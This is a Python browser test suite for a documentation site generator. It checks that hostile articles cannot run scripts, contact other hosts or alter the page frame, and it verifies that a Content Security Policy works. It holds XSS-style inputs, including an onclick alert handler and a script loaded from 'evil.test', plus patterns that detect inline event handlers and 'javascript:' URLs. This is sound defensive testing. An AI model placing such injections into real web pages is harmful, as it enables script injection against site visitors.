"""Hostile articles in a real browser: nothing runs, no other host is asked, and the frame round the article stays ours.

Each syntax is driven with each payload in its ids, names, titles and attributes. A site without payloads, built in the
same way, says what the frame looks like.
"""

from __future__ import annotations

import functools
import http.server
import os
import threading
from collections.abc import Iterator
from itertools import islice, product
from pathlib import Path
from typing import Any

import pytest
import yaml

from ludograph.tools.main import main

pytestmark = pytest.mark.browser

DATA = yaml.safe_load((Path(__file__).parent / "in_the_browser.yaml").read_text("utf-8"))
MORE = int(os.environ.get("LUDOGRAPH_ATTACKS", "0"))
"""How many payloads are tried besides those of the file; with any, also the themes `mkdocs` and `readthedocs`."""
PAYLOADS: list[str] = DATA["payloads"] + [
    before + run for before, run in islice(product(DATA["breaks"], DATA["runs"]), MORE)
]
SYNTAXES: dict[str, str] = DATA["syntaxes"]
WHOLE: dict[str, str] = DATA["whole"]
"""Attacks that hold their payload themselves."""
ENGINES = ("plain", "material")
THEMES = ("mkdocs", "readthedocs") if MORE else ()
OTHER = "evil.test"
GUARDED = """
site_name: Small
docs_dir: small
plugins: [ludograph: {script_policy: true}]
theme:
  name: material
  font: false
  features: [content.tabs.link, announce.dismiss]
  palette:
    - {scheme: default, toggle: {icon: material/weather-night, name: Dark}}
    - {scheme: slate, toggle: {icon: material/weather-sunny, name: Light}}
"""
"""A site whose pages of the theme have a policy for scripts."""
SCHEME = "document.documentElement.dataset.scheme ?? document.body.dataset.mdColorScheme"
GO_DARK = {
    "plain": "document.querySelector('.lg-scheme').click()",
    "policy": "document.querySelector('label[for=__palette_1]').click()",
}

FRAME = """() => {
  const besides = ".lg-columns, .md-container, svg, .lg-sprite, script, .lg-search, main, .md-footer";
  return [...document.querySelectorAll(`:is(body, .md-container) > :not(${besides})`)].map((part) => {
    const copy = part.cloneNode(true);
    for (const link of copy.querySelectorAll("a"))
      link.setAttribute("href", link.href.replace(location.href + "#", "#"));
    copy.querySelectorAll(".md-header__topic + .md-header__topic").forEach((topic) => topic.remove());
    return copy.outerHTML.replace(/ md-header__title--active/g, "");
  }).join();
}"""
"""What of a page is outside of `main` and holds nothing of the article."""
COVERING = """() => [...document.querySelectorAll("main article *")].filter((element) =>
  ["fixed", "sticky"].includes(getComputedStyle(element).position) && !element.closest("#lg-popover, thead")
).map((element) => element.outerHTML)"""
OF_SIDES = """() => [...document.querySelectorAll(":is(.lg-side, .md-sidebar) *")].filter((element) =>
  /^(script|iframe|object|img)$/i.test(element.localName)
  || [...element.attributes].some(({ name, value }) => name.startsWith("on") || value.trim().startsWith("javascript:"))
).map((element) => element.outerHTML)"""
TOUCH = """() => {
  for (const element of document.querySelectorAll("main article *")) {
    for (const kind of ["pointerover", "mouseover", "focusin"])
      element.dispatchEvent(new PointerEvent(kind, { bubbles: true, pointerType: "mouse" }));
    if (!element.closest("a[href], button, summary")) element.click();
  }
}"""
"""A reader who points at everything and presses what leads nowhere."""


def articles(payload: str, number: int) -> dict[str, str]:
    """One article with the payload in every syntax."""
    in_yaml = payload.replace("'", "''")
    body = "\n\n".join(text.replace("«p»", payload) for text in SYNTAXES.values())
    return {f"docs/a/{number}.md": f"---\ntitle: '{in_yaml}'\naka: ['{in_yaml}']\ntags: ['{in_yaml}']\n---\n\n{body}\n"}


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sites of both engines."""
    root = tmp_path_factory.mktemp("hostile")
    files = {
        "mkdocs.yml": "site_name: Small\nplugins: [ludograph]\ntheme: {name: material, font: false}\n"
        "markdown_extensions: [attr_list, md_in_html]\n",
        "docs/index.md": "# Home\n\nWords.\n",
        "docs/a/honest.md": "# Honest\n\nWords.\n\n## Part\n\nMore words.\n",
        "docs/a/rows.js": "alert(1)",
    }
    for number, payload in enumerate(PAYLOADS):
        files |= articles(payload, number)
    files |= {f"docs/a/whole-{name}.md": f"# Whole\n\n{text}\n" for name, text in WHOLE.items()}
    files |= {f"theme-{theme}.yml": files["mkdocs.yml"].replace("name: material", f"name: {theme}") for theme in THEMES}
    files |= {"policy.yml": GUARDED, "small/index.md": "# Home\n", "small/a/honest.md": files["docs/a/honest.md"]}
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content, encoding="utf-8")
    main(["build", "--config", str(root / "policy.yml"), "--site-dir", str(root / "policy")])
    for theme in THEMES:
        main(["build", "--config", str(root / f"theme-{theme}.yml"), "--site-dir", str(root / theme)])
    for engine in ENGINES:
        main(["build", "--config", str(root / "mkdocs.yml"), "--engine", engine, "--site-dir", str(root / engine)])
        assert (root / engine / "a/0/index.html").is_file()
    return root


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: Any) -> None:
        """Requests are not logged."""


@pytest.fixture(scope="module")
def served(root: Path) -> Iterator[str]:
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(root))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


class Visit:
    """Everything that happens while pages are open."""

    def __init__(self, browser: Any) -> None:
        self.context = browser.new_context()
        self.page = self.context.new_page()
        self.found: list[str] = []
        self.page.on("dialog", self._dialog)
        self.page.on("request", self._request)
        self.page.on("pageerror", lambda error: self.found.append(f"error {error}"))

    def _dialog(self, dialog: Any) -> None:
        self.found.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        if OTHER in request.url.split("?")[0].split("#")[0].split("/previews/")[0]:
            self.found.append(f"request {request.url}")
        if request.url.endswith("rows.js"):
            self.found.append(f"script {request.url}")


@pytest.fixture
def visit(browser: Any) -> Iterator[Visit]:
    made = Visit(browser)
    yield made
    made.context.close()


NAMES = [*map(str, range(len(PAYLOADS))), *(f"whole-{name}" for name in WHOLE)]


@pytest.mark.parametrize("engine", [*ENGINES, *THEMES])
def test_nothing_runs_no_other_host_is_asked_and_the_frame_stays(engine: str, served: str, visit: Visit) -> None:
    page = visit.page
    page.goto(f"{served}{engine}/a/honest/", wait_until="load")
    frame = page.evaluate(FRAME)
    through: dict[str, list[str]] = {}
    for name in NAMES:
        address = f"{served}{engine}/a/{name}/"
        page.goto(address, wait_until="load")
        if engine in ENGINES:
            found = [] if page.evaluate(FRAME) == frame else [f"frame {page.evaluate(FRAME)}"]
            found += page.evaluate(COVERING) + page.evaluate(OF_SIDES)
            page.evaluate(TOUCH)
        else:  # a theme that is not ours has its frame in places of its own
            found = []
            page.evaluate(TOUCH.replace("main article", "[role=main]"))
        page.keyboard.press("Tab")
        page.wait_for_timeout(30)
        # Without a network the scripts of other themes fail, on every page.
        happened = [one for one in visit.found if engine in ENGINES or not one.startswith("error")]
        found += happened + ([] if page.url.startswith(address) else [page.url])
        visit.found.clear()
        if found:
            through[name] = found
    assert through == {}


def _stays_dark(page: Any) -> bool:
    """Chromium shows a page from a disk now and then (3 of 100) before it has its storage: then it is loaded again."""
    for _ in range(5):
        page.reload(wait_until="load")
        if page.evaluate(SCHEME) in {"dark", "slate"}:
            return True
    return False


@pytest.mark.parametrize("site", GO_DARK)
def test_the_policy_lets_the_frame_work_from_a_disk_and_from_a_server(
    root: Path, served: str, visit: Visit, site: str
) -> None:
    page = visit.page
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    for address in (f"{served}{site}/a/honest/", (root / site / "a/honest/index.html").as_uri()):
        page.goto(address, wait_until="load")
        page.evaluate(GO_DARK[site])
        assert _stays_dark(page)
        page.keyboard.press("/")
        page.wait_for_selector("dialog.lg-search[open]")
        page.keyboard.type("home")
        page.wait_for_selector("dialog.lg-search li a")
        page.keyboard.press("Escape")
        assert [line for line in said if "Content Security" in line] == []
        page.evaluate(
            "document.body.append(Object.assign(document.createElement('b'), { innerHTML: '<i onclick=alert(1)>' }))"
        )
        page.evaluate("document.body.lastChild.firstChild.click()")
        made = "Object.assign(document.createElement('script'), { src: 'https://evil.test/a.js' })"
        page.evaluate(f"document.head.append({made})")
        page.wait_for_timeout(50)
        assert [line for line in said if "Content Security" in line]
        assert [one for one in visit.found if one.startswith("dialog")] == []
        said.clear()
        visit.found.clear()
